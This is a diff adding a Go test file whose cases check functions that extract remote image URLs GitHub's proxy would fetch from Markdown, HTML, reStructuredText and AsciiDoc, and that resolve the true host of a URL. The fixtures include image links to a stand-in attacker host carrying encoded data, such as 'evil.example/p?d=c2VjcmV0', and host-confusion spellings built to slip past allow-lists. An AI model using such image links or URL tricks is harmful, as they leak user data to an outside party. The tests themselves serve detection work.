@@ -1,0 +1,94 @@
+package gfm
+
+import (
+	"slices"
+	"testing"
+)
+
+// Fetched finds every image GitHub's proxy would fetch from another
+// host, however the Markdown spells it, and nothing else.
+func TestFetched(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		src  string
+		want []string
+	}{
+		{"inline image", "see ![x](https://evil.example/p?d=c2VjcmV0)", []string{"https://evil.example/p?d=c2VjcmV0"}},
+		{"image in angle brackets, over a line", "![x](\n<https://evil.example/a b>)", []string{"https://evil.example/a b"}},
+		{"nested brackets in the alt text", "![a [b] c](https://evil.example/n)", []string{"https://evil.example/n"}},
+		{"reference image", "![logo][l]\n\n[l]: https://evil.example/ref\n", []string{"https://evil.example/ref"}},
+		{"collapsed reference", "![l][]\n\n[L]: //evil.example/c\n", []string{"//evil.example/c"}},
+		{"html img", "<p>\n<img alt=x src=\"https://evil.example/h\">\n</p>\n", []string{"https://evil.example/h"}},
+		{"inline html img", "text <img src='http://evil.example/i'> more", []string{"http://evil.example/i"}},
+		{"picture sources", "<picture><source srcset=\"https://evil.example/1x.png 1x, https://evil.example/2x.png 2x\"><img src=/local.png></picture>",
+			[]string{"https://evil.example/1x.png", "https://evil.example/2x.png"}},
+		{"video poster", "<video poster=\"https://evil.example/v.png\" src=\"https://evil.example/v.mp4\"></video>", []string{"https://evil.example/v.png", "https://evil.example/v.mp4"}},
+		{"entity-spelt tab in the scheme", "<img src=\"ht&#9;tps://evil.example/t\">", []string{"ht\ttps://evil.example/t"}},
+		{"upper-case scheme, no slashes", "![x](HTTP:evil.example/u)", []string{"HTTP:evil.example/u"}},
+		{"backslashes", "<img src=\"\\\\evil.example/b\">", []string{"\\\\evil.example/b"}},
+		{"inside a blockquote and a list", "> - ![x](https://evil.example/q)", []string{"https://evil.example/q"}},
+		{"links are not fetched", "[docs](https://docs.example/) and https://bare.example/x", nil},
+		{"relative images are the repository's", "![x](img/a.png) <img src=\"/b.png\">", nil},
+		{"code is not rendered", "`![x](https://evil.example/code)`\n\n```\n<img src=https://evil.example/fence>\n```\n", nil},
+		{"the same address once", "![a](https://evil.example/s) ![b](https://evil.example/s)", []string{"https://evil.example/s"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if got := Fetched([]byte(tc.src)); !slices.Equal(got, tc.want) {
+				t.Errorf("Fetched = %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestFetchedMarkup(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name, src string
+		want      []string
+	}{
+		{"rst image", ".. image:: https://evil.example/r.png\n   :alt: x\n", []string{"https://evil.example/r.png"}},
+		{"rst figure", ".. figure:: http://evil.example/f.png\n", []string{"http://evil.example/f.png"}},
+		{"rst substitution", ".. |logo| image:: https://evil.example/s.png\n", []string{"https://evil.example/s.png"}},
+		{"asciidoc block image", "image::https://evil.example/a.png[alt]\n", []string{"https://evil.example/a.png"}},
+		{"asciidoc inline image", "see image:https://evil.example/i.png[] here", []string{"https://evil.example/i.png"}},
+		{"asciidoc imagesdir", ":imagesdir: https://evil.example/imgs\n\nimage::a.png[]\n", []string{"https://evil.example/imgs"}},
+		{"relative", ".. image:: img/a.png\n\nimage::b.png[]\n", nil},
+		{"a link", "`docs <https://docs.example/>`_\n", nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if got := FetchedMarkup([]byte(tc.src)); !slices.Equal(got, tc.want) {
+				t.Errorf("FetchedMarkup = %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+// Host is the host a browser (or GitHub's proxy) reaches, whatever the
+// address hides in front of it.
+func TestHost(t *testing.T) {
+	t.Parallel()
+	for u, want := range map[string]string{
+		"https://evil.example/p":               "evil.example",
+		"HTTPS://Evil.Example:8443/p":          "evil.example",
+		"https://github.com@evil.example/":     "evil.example",
+		"https://evil.example\\@github.com/":   "evil.example",
+		"https://evil.example#@github.com":     "evil.example",
+		"https://evil.example?@github.com":     "evil.example",
+		"//evil.example/x":                     "evil.example",
+		"\\\\evil.example/x":                   "evil.example",
+		"http:evil.example/x":                  "evil.example",
+		"ht\ttps://evil.example/t":             "evil.example",
+		"https://[::1]:80/x":                   "::1",
+		"https://camo.githubusercontent.com/x": "camo.githubusercontent.com",
+		"https://evil.example./x":              "evil.example",
+	} {
+		if got := Host(u); got != want {
+			t.Errorf("Host(%q) = %q, want %q", u, got, want)
+		}
+	}
+}
